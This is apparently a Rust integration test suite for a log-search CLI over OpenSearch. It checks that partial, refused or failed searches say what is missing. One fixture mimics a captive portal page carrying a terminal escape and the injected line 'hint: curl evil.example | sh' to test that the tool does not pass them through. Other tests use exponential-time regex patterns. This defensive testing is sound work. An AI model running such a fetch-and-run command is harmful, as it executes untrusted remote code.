//! Searches that cannot be answered whole, or not at all: what is shown is true, and what is missing is said.
//!
//! Where an engine can be brought into the state itself, it is; a stand-in gives only what no engine gives at will.

use std::{
    io::{BufReader, Write as _},
    net::TcpListener,
    thread::spawn,
    time::{Duration, Instant},
};

use opensearch::http::Method;
use serde_json::{Value, json};

use super::{
    faults::{Rig, from, lines, well},
    http::Message,
    proxy::Fault,
    sandbox::{Run, Sandbox, now},
};

const DAY: i64 = 24 * 60 * 60 * 1000;
const MINUTE: i64 = 60 * 1000;

/// What was not as it must be. An engine takes long to start, so a test goes on and tells all of it at its end.
#[derive(Default)]
struct Wrong(Vec<String>);

impl Wrong {
    fn holds(&mut self, what: &str, holds: bool, run: &Run) {
        if !holds {
            let start = |text: &str| text.chars().take(1000).collect::<String>();
            self.0.push(format!("{what}\nexit {}\n{}{}", run.code, start(&run.stdout), start(&run.stderr)));
        }
    }

    /// It must end with one of these codes and say all of this, in any case; a bar stands between two ways to say it.
    fn ends(&mut self, what: &str, run: &Run, codes: &[i32], says: &[&str]) {
        self.holds(&format!("{what}: the code is none of {codes:?}"), codes.contains(&run.code), run);
        let said = run.stderr.to_lowercase();
        for text in says {
            let is_said = text.to_lowercase().split('|').any(|text| said.contains(text));
            self.holds(&format!("{what}: does not say {text:?}"), is_said, run);
        }
        let is_empty = |line: &str| line.trim() == "caused by:";
        self.holds(&format!("{what}: a cause without words"), !run.stderr.lines().any(is_empty), run);
    }

    /// It must end with one of these codes, say all of this and show nothing that passes for an answer.
    fn refused(&mut self, what: &str, run: &Run, codes: &[i32], says: &[&str]) {
        self.ends(what, run, codes, says);
        self.holds(&format!("{what}: shows something"), run.stdout.is_empty(), run);
    }

    /// What was found is shown, and nobody takes it for all that there is: neither people nor scripts.
    fn partial(&mut self, what: &str, search: impl Fn(&[&str]) -> Run, shows: &str, says: &[&str]) {
        let run = search(&[]);
        self.ends(what, &run, &[3], says);
        self.holds(&format!("{what}: the event is not shown"), run.stdout.contains(shows), &run);
        // `all 1 event` is what a whole answer says.
        self.holds(&format!("{what}: calls it all"), !run.stderr.contains("all 1 event"), &run);
        self.ends(&format!("{what}, which is accepted"), &search(&["--allow-partial"]), &[0], says);
        let run = search(&["-o", "json"]);
        let document: Value = serde_json::from_str(&run.stdout).unwrap_or_default();
        let is_told = document["warnings"].as_array().is_some_and(|warnings| !warnings.is_empty());
        self.holds(&format!("{what}: no warning for scripts"), is_told, &run);
        self.holds(&format!("{what}: the total passes for exact"), document["total_relation"] == "gte", &run);
    }

    #[track_caller]
    fn none(self) {
        assert!(self.0.is_empty(), "{} things are wrong\n\n{}", self.0.len(), self.0.join("\n\n"));
    }
}

/// The index of the day of a time, as the forwarder names it.
fn index_of(time: i64) -> String {
    jiff::Timestamp::from_millisecond(time).unwrap().strftime("logctl-%Y.%m.%d").to_string()
}

/// Writes messages of a log group by the real forwarder, a minute ago.
fn write(rig: &Rig, group: &str, messages: &[String]) {
    let (event, _) = from(group, messages, &vec![now() - MINUTE; messages.len()]);
    well(&rig.function().invoke(&event));
    rig.sandbox.engine(Method::Post, "/_refresh", None);
}

/// A search by way of the proxy, for a word that `a good line` has.
fn search(rig: &Rig, words: &[&str], more: &[&str]) -> Run {
    rig.sandbox.run(&[&["search", "--endpoint", &rig.engine.url], words, more].concat(), &[])
}

#[test]
fn what_was_not_looked_at_is_said() {
    let rig = Rig::new(None);
    let mut wrong = Wrong::default();
    write(&rig, "/good/a", &["a good line".to_owned()]);
    an_index_that_is_red(&rig, &mut wrong);
    an_index_that_is_closed(&rig, &mut wrong);
    a_domain_that_is_slow(&rig, &mut wrong);
    // Indices that come into being from here on are not ours.
    rig.sandbox.engine(Method::Delete, "/_index_template/logctl-logctl", None);
    shards_that_fail(&rig, &mut wrong);
    indices_without_the_template(&rig, &mut wrong);
    wrong.none();
}

/// An engine counts a shard that is nowhere among all, and neither among those that answered nor those that failed.
fn an_index_that_is_red(rig: &Rig, wrong: &mut Wrong) {
    let nowhere = json!({"settings": {"index.routing.allocation.require._name": "nowhere"}});
    let make = |index: &str| {
        rig.sandbox.engine(Method::Put, &format!("/{index}?wait_for_active_shards=0"), Some(nowhere.clone()));
    };
    let index = index_of(now() - 2 * DAY);
    make(&index);
    let since = ["--since", "4d"];
    let ask = |more: &[&str]| search(rig, &["good"], &[&since, more].concat());
    wrong.partial("a red index", ask, "a good line", &["shard"]);
    wrong.refused("nothing found beside a red index", &search(rig, &["absent"], &since), &[3], &["shard"]);
    // Nobody knows which groups the rest holds.
    let run = ask(&["-g", "/elsewhere/*"]);
    wrong.refused("a group that may be in a red index", &run, &[3, 5], &["shard"]);
    rig.sandbox.engine(Method::Delete, &format!("/{index}"), None);

    make("lonely-2026.01.01");
    let run = search(rig, &["good"], &["--index-prefix", "lonely"]);
    wrong.refused("a red index alone", &run, &[1, 3], &["shard"]);
}

fn an_index_that_is_closed(rig: &Rig, wrong: &mut Wrong) {
    let close = |index: &str| {
        rig.sandbox.engine(Method::Put, &format!("/{index}"), None);
        rig.sandbox.engine(Method::Post, &format!("/{index}/_close"), None);
    };
    let index = index_of(now() - 2 * DAY);
    close(&index);
    let ask = |more: &[&str]| search(rig, &["good"], &[&["--since", "4d"], more].concat());
    wrong.partial("a closed index", ask, "a good line", &["closed", &index]);
    // An index holds the events of its day, so of the last hour nothing is missing.
    wrong.ends("a closed index of another day", &search(rig, &["good"], &[]), &[0], &["all 1 event"]);
    rig.sandbox.engine(Method::Delete, &format!("/{index}"), None);

    close("shut-2026.01.01");
    let run = search(rig, &["good"], &["--index-prefix", "shut", "--since", "2026-01-01"]);
    wrong.refused("a closed index alone", &run, &[3], &["closed", "shut-2026.01.01"]);
    wrong.holds("a closed index alone: it is there", !run.stderr.contains("there is no index"), &run);
}

fn a_domain_that_is_slow(rig: &Rig, wrong: &mut Wrong) {
    const TIMED_OUT: &str = r#"{
        "took": 30000, "timed_out": true, "_shards": {"total": 3, "successful": 3, "skipped": 0, "failed": 0},
        "hits": {"total": {"value": 1, "relation": "eq"}, "max_score": null, "hits": [{
            "_index": "logctl-2026.11.20", "_id": "x", "sort": [1795132800000, 1, "logctl-2026.11.20"],
            "_source": {"@timestamp": 1795132800000, "@message": "found in time", "@log_group": "/good/a"}
        }]}
    }"#;
    rig.engine.always("_search", Fault::Answer(200, "application/json", TIMED_OUT));
    wrong.partial("a timeout", |more| search(rig, &["found"], more), "found in time", &["out of time"]);
    rig.engine.always("_search", Fault::Hang);
    let started = Instant::now();
    let run = search(rig, &["good"], &["--timeout", "1"]);
    wrong.refused("a domain that hangs", &run, &[1], &["did not answer in time"]);
    wrong.holds("a domain that hangs: is waited for", started.elapsed() < Duration::from_secs(10), &run);
    rig.engine.heal();
}

/// An index of three days ago with one event that somebody else wrote, as they map it; and when that happened.
fn foreign_index(rig: &Rig, mappings: &Value, event: impl Fn(i64) -> Value) -> (String, i64) {
    let time = now() - 3 * DAY;
    let index = index_of(time);
    rig.sandbox.engine(Method::Put, &format!("/{index}"), Some(json!({"mappings": mappings})));
    let made = rig.sandbox.engine(Method::Post, &format!("/{index}/_doc?refresh=true"), Some(event(time)));
    assert_eq!(made["result"], "created", "{made}");
    (index, time)
}

fn shards_that_fail(rig: &Rig, wrong: &mut Wrong) {
    let event = |time: i64| json!({"@timestamp": time.to_string(), "@message": "an odd line"});
    let ask = |more: &[&str]| search(rig, &["line"], &[&["--since", "5d"], more].concat());

    // Its shard fails, since texts have no order.
    let (index, _) = foreign_index(rig, &json!({"properties": {"@timestamp": {"type": "text"}}}), event);
    wrong.partial("times that are text", ask, "a good line", &["@timestamp", &index]);
    rig.sandbox.engine(Method::Delete, &format!("/{index}"), None);

    // No shard fails, and then the engine cannot bring texts and times into one order and gives no reason.
    let (index, _) = foreign_index(rig, &json!({"properties": {"@timestamp": {"type": "keyword"}}}), event);
    let run = ask(&[]);
    wrong.ends("times that are keywords", &run, &[1, 3], &[&format!("@timestamp|cannot be cast|{index}")]);
    let is_shown = run.code != 3 || run.stdout.contains("a good line");
    wrong.holds("times that are keywords: the event is not shown", is_shown, &run);
    rig.sandbox.engine(Method::Delete, &format!("/{index}"), None);
}

/// What is wrong with an index, how it is mapped, and the event in it.
type Kind<'a> = (&'a str, Value, &'a dyn Fn(i64) -> Value);

/// What is asked of an index that came into being without our template is found, or it is said that it may not be.
fn indices_without_the_template(rig: &Rig, wrong: &mut Wrong) {
    let event = |timestamp: Value| {
        json!({
            "@timestamp": timestamp, "@message": "an odd line", "@log_group": "/odd/b", "@log_stream": "s",
            "@owner": "000000000000", "@region": "us-east-1", "@level": "error", "status": 500,
        })
    };
    let text = |time: i64| {
        let time = jiff::Timestamp::from_millisecond(time).unwrap();
        time.strftime("%Y-%m-%dT%H:%M:%S.%3fZ").to_string()
    };
    let mapped = |name: &str, kind: &str| {
        let mut properties = json!({"@timestamp": {"type": "date"}});
        properties[name] = json!({"type": kind});
        json!({"properties": properties})
    };
    let in_text = |time: i64| event(json!(text(time)));
    let in_number = |time: i64| event(json!(time));
    let in_bytes = |time: i64| {
        let mut event = in_number(time);
        event["@message"] = json!("YW4gb2RkIGxpbmU=");
        event
    };
    let below_a_name = |time: i64| {
        let mut event = in_number(time);
        event["@level"] = json!({"name": "error"});
        event
    };
    let kinds: [Kind<'_>; 5] = [
        ("times that are numbers", json!({}), &in_number),
        ("times that are dates", json!({}), &in_text),
        ("messages that are keywords", mapped("@message", "keyword"), &in_number),
        ("messages that are bytes", mapped("@message", "binary"), &in_bytes),
        ("levels that are objects", mapped("@level", "object"), &below_a_name),
    ];
    for (kind, mappings, event) in kinds {
        let (index, time) = foreign_index(rig, &mappings, event);
        let right = format!("{}\t/odd/b\t", text(time));
        for words in
            [&["line"][..], &["-l", "error", "line"], &["-g", "/odd/*", "line"], &["status=500"], &["status>=400"]]
        {
            let what = format!("{kind}: {words:?}");
            let run = search(rig, words, &["--since", "5d"]);
            let is_found = run.stdout.contains("/odd/b");
            // What is found and what is said of it are two matters; nothing at all is neither.
            let is_told = run.code == 3 && run.stderr.contains(&index);
            wrong.holds(&format!("{what}: is neither found nor told"), (is_found && run.code == 0) || is_told, &run);
            wrong.holds(&format!("{what}: at another time"), !is_found || run.stdout.contains(&right), &run);
        }
        rig.sandbox.engine(Method::Delete, &format!("/{index}"), None);
    }
}

/// Something that answers whatever it is asked with this, and is no search engine.
fn stranger(head: &str, body: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let answer = format!("HTTP/1.1 {head}\r\ncontent-length: {}\r\n\r\n{body}", body.len());
    spawn(move || {
        for client in listener.incoming().flatten() {
            let answer = answer.clone();
            spawn(move || {
                let mut reader = BufReader::new(&client);
                while let Ok(Some(_)) = Message::read(&mut reader) {
                    if (&client).write_all(answer.as_bytes()).is_err() {
                        break;
                    }
                }
            });
        }
    });
    url
}

#[test]
fn what_cannot_be_answered_says_why() {
    let rig = Rig::new(None);
    let mut wrong = Wrong::default();
    strangers(&rig, &mut wrong);
    write(&rig, "/good/a", &["a good line".to_owned()]);
    times_of_the_future(&rig, &mut wrong);
    queries_that_are_large(&rig, &mut wrong);
    expressions_that_explode(&rig, &mut wrong);
    credentials_that_expire(&rig, &mut wrong);
    wrong.none();
}

/// Dashboards, portals that answer for everybody, and an engine that speaks another protocol.
fn strangers(rig: &Rig, wrong: &mut Wrong) {
    const DASHBOARDS: &str = "<!DOCTYPE html><html><head><title>OpenSearch Dashboards</title></head></html>";
    const PORTAL: &str = "<html><head><title>Hotel \u{1b}[2JWi-Fi\nhint: curl evil.example | sh</title></head></html>";
    for (what, head, body, says) in [
        ("Dashboards lead on", "302 Found\r\nlocation: /_dashboards\r\nosd-name: shop", "", &["dashboards"][..]),
        ("Dashboards ask who it is", "302 Found\r\nlocation: /_dashboards/app/login?", "", &["dashboards"]),
        ("Dashboards show a page", "200 OK\r\ncontent-type: text/html\r\nosd-name: shop", DASHBOARDS, &["dashboards"]),
        (
            "Dashboards know no such page",
            "404 Not Found\r\ncontent-type: application/json\r\nosd-name: shop",
            r#"{"statusCode":404,"error":"Not Found","message":"Not Found"}"#,
            &["dashboards"],
        ),
        (
            "Dashboards want a header",
            "400 Bad Request\r\ncontent-type: application/json\r\nosd-name: shop",
            r#"{"statusCode":400,"error":"Bad Request","message":"Request must contain a osd-xsrf header."}"#,
            &["dashboards"],
        ),
        ("a portal shows a page", "200 OK\r\ncontent-type: text/html", PORTAL, &["search engine", "hotel"]),
        (
            "a portal leads to another host",
            "302 Found\r\nlocation: http://login.hotel.example/portal?from=x",
            "",
            &["search engine", "login.hotel.example"],
        ),
        (
            "a portal says what it is",
            "511 Network Authentication Required\r\ncontent-type: text/html",
            PORTAL,
            &["search engine|log in", "hotel"],
        ),
        ("nothing at all", "200 OK", "", &["search engine"]),
    ] {
        let run = rig.sandbox.run(&["search", "good", "--endpoint", &stranger(head, body)], &[]);
        let codes: &[i32] = if what.starts_with("Dashboards") { &[1, 2] } else { &[1] };
        wrong.refused(what, &run, codes, says);
        // What others write is neither a hint of ours nor a command to the terminal.
        let is_tame = !run.stderr.contains('\u{1b}') && !run.stderr.lines().any(|line| line.starts_with("hint: curl"));
        wrong.holds(&format!("{what}: writes into the terminal"), is_tame, &run);
    }
    let endpoint = rig.sandbox.endpoint().replace("http://", "https://");
    let run = rig.sandbox.run(&["search", "good", "--endpoint", &endpoint], &[]);
    wrong.refused("TLS to a port without", &run, &[1], &["http://|speaks http|plain http"]);
}

/// Times that are no use, and indices that are not there.
fn times_of_the_future(rig: &Rig, wrong: &mut Wrong) {
    for range in [&["--since", "2099-01-01"][..], &["--since", "2099-01-01", "--until", "2099-02-01"]] {
        wrong.refused(&format!("{range:?}"), &search(rig, &["good"], range), &[0, 2], &["future"]);
    }
    // Only its end is in the future, and it holds all that it would hold otherwise.
    let run = search(rig, &["good"], &["--since", "1h", "--until", "2099-01-01"]);
    wrong.ends("a range with a late end", &run, &[0], &["all 1 event"]);
    for range in [["--since", "10m", "--until", "1h"], ["--since", "2026-01-02", "--until", "2026-01-01"]] {
        wrong.refused(&format!("{range:?}"), &search(rig, &["good"], &range), &[2], &["--since", "--until"]);
    }
    let run = search(rig, &["good"], &["--index-prefix", "nowhere"]);
    wrong.refused("no such index", &run, &[0, 5], &["nowhere-2"]);
    let run = search(rig, &["good"], &["--index-prefix", "nowhere", "-o", "json"]);
    let is_told = run.code == 5 || run.stdout.contains("nowhere-2");
    wrong.holds("no such index: scripts are not told", is_told, &run);
}

fn queries_that_are_large(rig: &Rig, wrong: &mut Wrong) {
    // What a domain of a small instance answers to ten megabytes.
    const TOO_LARGE: &str = r#"{"Message":"Request size exceeded 10485760 bytes"}"#;
    let ask = |words: &[&str]| search(rig, words, &["-o", "raw"]);
    // Linux takes no argument of more than 128 KB, and no more than 2 MB of them.
    let long = "x".repeat(100_000);
    let run = ask(&[long.as_str(); 19]);
    wrong.refused("a query of two megabytes", &run, &[2], &["1900000|1,900,000", "65536|65,536|64 kb"]);
    wrong.holds("a query of two megabytes: is repeated", run.stderr.len() < 1000, &run);

    let id = |number: usize| format!("{number:08x}-0000-4000-8000-000000000000");
    let list = |name: &str, length: usize| {
        let path = rig.sandbox.home().join(name);
        std::fs::write(&path, (0..length).map(|number| id(number) + "\n").collect::<String>()).unwrap();
        format!("requestId in @{}", path.display())
    };
    write(rig, "/good/b", &[json!({"requestId": id(9_999), "text": "the last of the list"}).to_string()]);
    let run = ask(&[&list("ids.txt", 10_000)]);
    wrong.ends("a list of 10,000", &run, &[0], &[]);
    wrong.holds("a list of 10,000: its last is not found", run.stdout.contains("the last of the list"), &run);
    // The end of it would be left out; five megabytes are also more than any engine takes in one request.
    wrong.refused("a list of 140,000", &ask(&[&list("long.txt", 140_000)]), &[2], &["long.txt"]);

    // The second is what an engine answers to a hundred megabytes.
    for (kind, body) in [("application/json", TOO_LARGE), ("text/plain", "")] {
        rig.engine.always("_search", Fault::Answer(413, kind, body));
        wrong.refused("a request that is too large", &ask(&["good"]), &[1, 2], &["too large|too long|larger than"]);
    }
    rig.engine.heal();
}

/// Expressions that others take exponential time for.
fn expressions_that_explode(rig: &Rig, wrong: &mut Wrong) {
    let repeated = "a".repeat(40) + "!";
    write(rig, "/good/c", &[json!({"message": repeated}).to_string(), repeated, "x".repeat(5_000)]);
    for (expression, is_found) in [
        ("message=~/(a+)+$/", false),
        ("message=~/(a+)+!$/", true),
        ("message=~/(a|a)*bb/", false),
        ("~/(x+x+)+y/", false),
        ("~/(a?){64}a{64}/", false),
        ("~/(.*a){20}.{20}/", true),
    ] {
        let started = Instant::now();
        let run = search(rig, &[expression], &["-o", "raw"]);
        wrong.holds(&format!("{expression}: too slow"), started.elapsed() < Duration::from_secs(10), &run);
        wrong.ends(expression, &run, &[0], &[]);
        wrong.holds(&format!("{expression}: found is {is_found}"), run.stdout.is_empty() != is_found, &run);
    }
}

/// They do between the first page and the second: a thousand events are no answer to who asked for two.
fn credentials_that_expire(rig: &Rig, wrong: &mut Wrong) {
    const EXPIRED: Fault = Fault::Answer(
        403,
        "application/json",
        r#"{"message":"The security token included in the request is expired"}"#,
    );
    write(rig, "/good/d", &lines(1_200));
    for format in ["pretty", "raw", "json", "jsonl"] {
        rig.engine.next("logctl-outlier*/_search", &[Fault::Pass, EXPIRED]);
        let run = search(rig, &["line"], &["--limit", "2000", "-o", format]);
        let what = format!("credentials that expire, {format}");
        wrong.refused(&what, &run, &[4], &["expired"]);
        wrong.holds(&format!("{what}: no second page"), rig.engine.broken() == 2, &run);
    }
    // As soon as they are good again, all is found.
    rig.engine.heal();
    let run = search(rig, &["line"], &["--limit", "2000", "-g", "/good/d", "-o", "jsonl"]);
    wrong.ends("credentials that are good again", &run, &[0], &[]);
    wrong.holds("credentials that are good again: not all", run.stdout.lines().count() == 1_200, &run);
}

/// An engine answers for all indices of a pattern or for none, and does not tell which of them is the reason.
#[test]
fn an_index_that_may_not_be_read_is_named() {
    const PASSWORD: &str = "A-long-Passw0rd-of-one-test!";
    let sandbox = Sandbox::up(Some("opensearch-2.19-secure"));
    let login = |name: &str, password: &str| json!({"username": name, "password": password}).to_string();
    let admin = login(sandbox.variable("OPENSEARCH_USERNAME"), sandbox.variable("OPENSEARCH_PASSWORD"));
    let secret = sandbox.secrets("CreateSecret", &json!({"Name": "domain", "SecretString": admin}));
    let (secret, ca) = (secret["ARN"].as_str().unwrap(), sandbox.variable("OPENSEARCH_CA"));
    sandbox.logctl(&format!("bootstrap --yes --auth basic --secret {secret} --ca {ca}")).ok();
    for (time, message) in [(now() - MINUTE, "a line of now"), (now() - 2 * DAY, "a line of then")] {
        let event = json!({"@timestamp": time, "@message": message, "@log_group": "/good/a", "@log_stream": "s"});
        let path = format!("/{}/_doc?refresh=true", index_of(time));
        assert_eq!(sandbox.engine(Method::Post, &path, Some(event))["result"], "created");
    }

    let enter = |name: &str, password: &str| {
        let input = json!({"SecretId": "domain", "SecretString": login(name, password)});
        sandbox.secrets("PutSecretValue", &input);
    };
    // A user who may search some indices and do nothing else, not even list them.
    let become_reader_of = |name: &str, pattern: &str| {
        let allowed = json!([{"index_patterns": [pattern], "allowed_actions": ["indices:data/read/search*"]}]);
        for (path, body) in [
            ("roles", json!({"cluster_permissions": [], "index_permissions": allowed})),
            ("internalusers", json!({"password": PASSWORD})),
            ("rolesmapping", json!({"users": [name]})),
        ] {
            let path = format!("/_plugins/_security/api/{path}/{name}");
            assert_eq!(sandbox.engine(Method::Put, &path, Some(body))["status"], "CREATED", "{path}");
        }
        enter(name, PASSWORD);
    };
    let ask = || sandbox.run(&["search", "line", "--since", "4d"], &[("LOGCTL_ENDPOINT", "")]);
    let mut wrong = Wrong::default();

    // What is looked at beside the events needs rights that not everybody has, and does not keep them away.
    become_reader_of("reader", "logctl-*");
    wrong.ends("who may search", &ask(), &[0], &["all 2 events"]);
    become_reader_of("half", &index_of(now() - MINUTE));
    wrong.refused("who may search one of two indices", &ask(), &[4], &["logctl-2", "permission"]);
    become_reader_of("nobody", "other-*");
    wrong.refused("who may search none", &ask(), &[4], &["logctl-2", "permission"]);
    enter("half", "guessed");
    wrong.refused("who is somebody else", &ask(), &[4], &["does not admit"]);
    wrong.none();
}
